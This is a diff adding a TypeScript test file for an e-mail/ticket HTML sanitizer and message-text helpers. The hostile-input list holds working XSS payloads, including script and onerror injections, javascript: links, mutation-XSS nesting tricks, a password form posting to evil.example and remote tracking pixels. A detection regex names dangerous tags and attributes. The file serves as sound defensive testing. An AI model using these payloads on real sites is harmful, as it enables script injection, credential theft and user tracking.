@@ -1,0 +1,124 @@
+import { describe, expect, it } from "@effect/vitest"
+import { FastCheck as fc } from "effect"
+import { safeHtml, textOfHtml } from "../../src/ticketMessages/MessageHtml.ts"
+import { messageTexts, ticketSubject } from "../../src/ticketMessages/MessageText.ts"
+
+const hostile = [
+  "<script>alert(1)</script>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)><script>alert(1)</script></svg>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  "<object data=x></object><embed src=x>",
+  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+  '<style>body{background:url(https://evil.example/x)}</style><link rel=stylesheet href="//evil.example/x">',
+  '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<p style="background:url(https://evil.example/x);position:fixed;color:red">x</p>',
+  '<p style="color:expression(alert(1))">x</p>',
+  '<img src="https://evil.example/pixel.gif"><img src="//evil.example/pixel.gif">',
+  '<img src="/ticketMessages/token/like-dislike?like=true"><img srcset="https://evil.example/a 1x">',
+  '<img src="data:text/html,<script>alert(1)</script>"><img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<video poster="https://evil.example/x"><source src="https://evil.example/x"></video>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+  "<textarea><img src=x onerror=alert(1)></textarea><xmp><img src=x onerror=alert(1)></xmp>",
+  "<!--><img src=x onerror=alert(1)>-->",
+  '<div id="app" class="admin" data-x="1" contenteditable>x</div>'
+]
+
+const isHarmless = (html: string) => {
+  const tags = html.match(/<[^>]*>/g) ?? []
+  return tags.every(
+    (tag) =>
+      !/^<\/?(?:script|style|iframe|object|embed|form|input|button|link|base|meta|svg|math|video|source|textarea|xmp)\b/i.test(
+        tag
+      ) &&
+      !/\s(?:on\w+|srcset|srcdoc|poster|action|id|class)\s*=/i.test(tag) &&
+      !/(?:javascript|vbscript|expression|url\()/i.test(tag) &&
+      !/<img[^>]*src="(?!cid:|data:image\/(?:png|jpeg|gif|webp);base64,)/i.test(tag)
+  )
+}
+
+describe("The HTML of a message", () => {
+  it("has nothing that runs, asks for input or loads from elsewhere", () => {
+    for (const html of hostile)
+      expect([html, safeHtml(html), isHarmless(safeHtml(html))]).toEqual([html, expect.anything(), true])
+  })
+
+  it("stays harmless however hostile pieces are put together, and is not changed by a second look", () => {
+    fc.assert(
+      fc.property(fc.array(fc.oneof(fc.constantFrom(...hostile), fc.string()), { maxLength: 6 }), (pieces) => {
+        const clean = safeHtml(pieces.join(""))
+        expect(isHarmless(clean)).toBe(true)
+        expect(safeHtml(clean)).toBe(clean)
+      })
+    )
+  })
+
+  it("keeps what a mail is made of", () => {
+    expect(safeHtml('<p dir="rtl">Hi <b>you</b></p><img src="cid:photo" alt="a photo">')).toBe(
+      '<p dir="rtl">Hi <b>you</b></p><img alt="a photo" src="cid:photo" />'
+    )
+    expect(safeHtml('<a href="https://acme.example/x">x</a>')).toBe(
+      '<a href="https://acme.example/x" rel="noopener noreferrer nofollow" target="_blank">x</a>'
+    )
+    expect(safeHtml('<img src="https://x.example/a.png" alt="Chart">')).toBe('<img alt="Chart" />')
+  })
+
+  it("reads as text, a line for each block, without what nobody sees", () => {
+    expect(textOfHtml("<html><head><title>T</title><style>x</style></head><body><p>One\n two</p><p>Three</p>")).toBe(
+      "One two\nThree"
+    )
+    expect(textOfHtml("a<br>b<ul><li>c</li><li>d &amp; e</li></ul><script>f</script>")).toBe("a\nb\nc\nd & e")
+    expect(textOfHtml("   ")).toBe("")
+  })
+
+  it("is shown as its source when it lies deeper than in any mail, which would take minutes to read", () => {
+    const [deep, flat] = [`${"<div>".repeat(100_000)}x`, "<p>x</p>".repeat(20_000)]
+    const started = performance.now()
+    expect(textOfHtml(deep)).toBe(deep)
+    expect(safeHtml(deep)).toMatch(/^(?:&lt;div&gt;)+x$/)
+    expect(performance.now() - started).toBeLessThan(5_000)
+    expect(safeHtml(flat)).toBe(flat)
+    const nested = `${"<div>".repeat(90)}x${"</div>".repeat(90)}`
+    expect([safeHtml(nested), textOfHtml(nested)]).toEqual([nested, "x"])
+  })
+})
+
+describe("The texts of a message", () => {
+  it("are made from each other where they are missing", () => {
+    expect(messageTexts({ message: "Hello\n\nyou" })).toEqual({
+      message: "Hello\n\nyou",
+      textBody: null,
+      htmlBody: null,
+      preview: "Hello you"
+    })
+    expect(messageTexts({ textBody: "plain", htmlBody: "<b>rich</b>" })).toMatchObject({ message: "plain" })
+    expect(messageTexts({ message: "  ", htmlBody: "<p>rich</p>" })).toMatchObject({ message: "rich", preview: "rich" })
+    expect(messageTexts({ message: "x", preview: "own" })).toMatchObject({ preview: "own" })
+    expect(messageTexts({})).toEqual({ message: null, textBody: null, htmlBody: null, preview: null })
+  })
+
+  it("have a preview of one line, cut between characters and never longer than it may be", () => {
+    fc.assert(
+      fc.property(fc.fullUnicodeString({ maxLength: 500 }), (message) => {
+        const { preview } = messageTexts({ message })
+        expect(preview === null || (!/[\n\r\t]/.test(preview) && [...preview].length <= 201)).toBe(true)
+        expect(preview?.isWellFormed() ?? true).toBe(message.isWellFormed() || preview?.isWellFormed())
+      })
+    )
+    expect(messageTexts({ message: "😀".repeat(300) }).preview).toBe(`${"😀".repeat(200)}…`)
+  })
+
+  it("give a new ticket its subject", () => {
+    expect(ticketSubject(" The key ", "text")).toBe("The key")
+    expect(ticketSubject("  ", "first line\nsecond")).toBe("first line second")
+    expect(ticketSubject(undefined, "x".repeat(200))).toBe(`${"x".repeat(100)}…`)
+    expect(ticketSubject(undefined, "  ")).toBeNull()
+    expect(ticketSubject(undefined, null)).toBeNull()
+  })
+})
